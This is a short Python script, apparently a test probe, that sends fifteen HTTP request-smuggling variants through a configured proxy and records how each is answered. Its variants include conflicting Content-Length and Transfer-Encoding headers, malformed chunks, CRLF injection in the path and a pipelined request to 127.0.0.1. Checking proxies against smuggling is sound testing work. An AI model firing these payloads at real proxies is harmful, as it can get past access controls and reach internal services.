# Tries: a second request within the first, for a proxy and a server that count differently.
import os
import socket
from urllib.parse import urlsplit

HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: allowed.example\r\n\r\n"


def run(args, context):
    place = urlsplit(os.environ["http_proxy"])
    line = f"POST http://allowed.example:{args['port']}/front HTTP/1.1\r\nHost: allowed.example:{args['port']}\r\n"
    front = f"GET http://allowed.example:{args['port']}"
    second = f"GET http://127.0.0.1:{args['port']}/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
    length = len(HIDDEN) + 5
    stopped = {}
    for name, request in {
        "both": f"{line}Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{HIDDEN}",
        "two lengths": f"{line}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{HIDDEN}",
        "list of lengths": f"{line}Content-Length: 0, {length}\r\n\r\n{HIDDEN}",
        "signed length": f"{line}Content-Length: +0\r\n\r\n{HIDDEN}",
        "unknown coding": f"{line}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{HIDDEN}",
        "coding twice": f"{line}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{HIDDEN}",
        "blank before colon": f"{line}Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n{HIDDEN}",
        "folded": f"{line}X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n{HIDDEN}",
        "bare line feed": f"{line}X: y\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n{HIDDEN}",
        "bad chunk": f"{line}Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n{HIDDEN}",
        "huge chunk": f"{line}Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n\r\n{HIDDEN}",
        "in the path": f"{front}/a%0d%0a%0d%0aGET%20/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
        "line in the path": f"{front}/a HTTP/1.1\r\n\r\n{HIDDEN}",
        "no length": f"{line}\r\n{HIDDEN}",
        "pipelined": f"{front}/front HTTP/1.1\r\nHost: allowed.example\r\n\r\n{second}",
    }.items():
        with socket.create_connection((place.hostname, place.port), timeout=3) as connection:
            connection.sendall(request.encode())
            connection.settimeout(1)
            try:
                answer = connection.recv(65536)
            except OSError:
                answer = b" silent "
        stopped[name] = (answer.split(b" ")[1:2] or [b"closed"])[0].decode()
    return {"stopped": "tried", "answers": stopped}
